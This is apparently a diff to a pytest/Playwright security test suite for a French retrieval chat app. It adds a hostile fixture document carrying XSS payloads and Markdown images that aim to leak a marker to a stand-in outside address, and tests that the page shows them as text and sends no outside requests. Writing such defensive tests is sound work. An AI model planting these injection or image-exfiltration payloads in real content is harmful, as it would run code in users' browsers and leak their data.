@@ -34,12 +34,17 @@ OUTSIDE_MARKER = "SECRET-HORS-APPLI-51d0e2"
 PAYLOAD_SCRIPT = "<script>window.__pwned=1</script>"
 PAYLOAD_IMG = '<img src=x onerror="window.__pwned=1">'
 USER, PASSWORD = "animatrice", "Atelier-2026!"
+# Markdown that a chat window would turn into a fetched image or an outside link (TEST-NET-3 address: never routed,
+# so nothing leaves the machine even if a request were made; the browser still records the attempt)
+OUTSIDE = "203.0.113.9"
+MD_IMG = f"![plan](http://{OUTSIDE}/pixel.png?fuite={MARKER})"
+MD_LINK = f"[la carte](http://{OUTSIDE}/lien)"
 
 HOSTILE = f"""---
 id: doc-hostile
 title: "La monnaie fondante de Wörgl {PAYLOAD_SCRIPT}"
 type: publication
-authors: ['{PAYLOAD_IMG}']
+authors: ['{PAYLOAD_IMG}', '![a](http://{OUTSIDE}/auteur.png)']
 year: 2019
 language: fr
 url: "javascript:window.__pwned=1"
@@ -48,7 +53,7 @@ topics: ["monnaie fondante"]
 ---
 # La monnaie fondante de Wörgl
 
-En 1932, la commune autrichienne de Wörgl émet une monnaie fondante {PAYLOAD_SCRIPT} qui perd un pour cent de sa valeur chaque mois. Cette monnaie fondante circule vite et finance les travaux publics de Wörgl {PAYLOAD_IMG} pendant la crise.
+En 1932, la commune autrichienne de Wörgl émet une monnaie fondante {PAYLOAD_SCRIPT} qui perd un pour cent de sa valeur chaque mois. Cette monnaie fondante circule vite {MD_IMG} et finance les travaux publics de Wörgl {PAYLOAD_IMG} pendant la crise, voir {MD_LINK}, http://{OUTSIDE}/nu et www.exemple.invalid.
 
 Le marqueur {MARKER} identifie ce document dans les tests de sécurité. La banque nationale autrichienne fait cesser l'expérience de la monnaie fondante en 1933.
 """
@@ -144,7 +149,10 @@ def server(hostile):
 
 @pytest.fixture(scope="module")
 def auth_server(hostile):
-    srv = Server(hostile["index"], hostile["corpus"], hostile["dir"], "--auth", f"{USER}:{PASSWORD}")
+    secret = hostile["dir"] / "comptes.txt"
+    secret.write_text(f"# comptes de l'atelier\n{USER}:{PASSWORD}\n", encoding="utf-8")
+    secret.chmod(0o600)
+    srv = Server(hostile["index"], hostile["corpus"], hostile["dir"], "--auth-file", str(secret))
     yield srv
     srv.stop()
 
@@ -300,14 +308,23 @@ NOT_RUN = """() => ({
 CLEAN = {"pwned": "undefined", "scripts": 0, "handlers": 0, "imgx": 0, "jslinks": 0}
 
 
+OUTSIDE_LINKS = """() => [...document.querySelectorAll('#chatbot a[href], #chatbot img, #dossier-intro img')]
+    .map(e => e.href || e.src).filter(u => u && !u.startsWith(location.origin))"""
+
+
 def test_html_in_documents_and_questions_is_shown_as_text_never_run(browser, server):
+    """…and Markdown images and links in a document or a question are shown as text: the page sends no request
+    to any host but the app's own (every request the page makes is recorded)."""
     ctx = browser.new_context(viewport={"width": 1400, "height": 1000})
     pg = ctx.new_page()
+    requests = []
+    pg.on("request", lambda r: requests.append(r.url))
     try:
         pg.goto(server.url + "/")
         pg.wait_for_selector("#question textarea", timeout=60_000)
 
-        pg.fill("#question textarea", f"{PAYLOAD_IMG} Qu'est-ce que la monnaie fondante de Wörgl ? {PAYLOAD_SCRIPT}")
+        pg.fill("#question textarea", f"{PAYLOAD_IMG} Qu'est-ce que la monnaie fondante de Wörgl ? {PAYLOAD_SCRIPT} "
+                                      f"![q](http://{OUTSIDE}/question.png)")
         pg.click("#send")
         pg.wait_for_function("""() => { const m = document.querySelectorAll('#chatbot [data-testid="bot"]');
                                         return m.length >= 1 && !m[m.length-1].innerText.includes('Je cherche'); }""",
@@ -319,6 +336,11 @@ def test_html_in_documents_and_questions_is_shown_as_text_never_run(browser, ser
         assert PAYLOAD_IMG in chat  # the question, shown as typed
         assert PAYLOAD_SCRIPT in sources and PAYLOAD_IMG in sources  # the document's text, shown as text
         assert pg.locator('#sources .card[data-doc-id="doc-hostile"] a').count() == 0  # javascript: link dropped
+        # Markdown in an author's name and in the question, shown as written (the Markdown loader already reduces
+        # a passage's own Markdown to its text; rag/render.py's unit tests cover passages and model output)
+        assert f"![a](http://{OUTSIDE}/auteur.png)" in chat and f"![q](http://{OUTSIDE}/question.png)" in chat
+        assert f"http://{OUTSIDE}/nu" in chat  # a bare address in the passage, shown but not linked
+        assert pg.evaluate(OUTSIDE_LINKS) == []
 
         pg.get_by_role("tab", name="Trouver une ressource").click()
         pg.fill("#find-desc textarea", "monnaie fondante de Wörgl")
@@ -329,6 +351,8 @@ def test_html_in_documents_and_questions_is_shown_as_text_never_run(browser, ser
         card = pg.locator('#find-results .card[data-doc-id="doc-hostile"]').inner_text()
         assert "La monnaie fondante de Wörgl <script>window.__pwned=1</script>" in card  # the title, as text
         assert PAYLOAD_IMG in card  # the author, as text
+        assert requests and all(r.startswith(server.url + "/") for r in requests), \
+            [r for r in requests if not r.startswith(server.url + "/")]
     finally:
         ctx.close()
 
@@ -366,12 +390,23 @@ def test_network_host_without_password_warns(hostile, tmp_path):
     assert "ATTENTION" in r.stderr and "--auth" in r.stderr
 
 
+def test_share_without_password_warns(tmp_path):
+    r = subprocess.run([sys.executable, "app.py", "--share", "--index", str(tmp_path / "absent"), "--no-update",
+                        "--port", str(free_port())], cwd=ROOT, capture_output=True, text=True, timeout=180,
+                       env=app_env())
+    assert r.returncode == 2
+    assert "ATTENTION" in r.stderr and "--share" in r.stderr and "lien public" in r.stderr
+
+
 # ------------------------------------------------------------------------------------------------ password
 
 def test_wrong_password_gets_nothing_and_the_right_one_works(auth_server):
     from gradio_client.exceptions import AuthenticationError
 
     srv = auth_server
+    # the password came from --auth-file: it is nowhere in the server's command line (what `ps` shows)
+    cmdline = Path(f"/proc/{srv.proc.pid}/cmdline").read_bytes()
+    assert b"--auth-file" in cmdline and PASSWORD.encode() not in cmdline
     status, body = srv.get("/")
     assert status == 200 and b'"auth_required":true' in body.replace(b" ", b"")
     assert b"Sol-violette" not in body and b"Discuter" not in body  # the login page, not the app
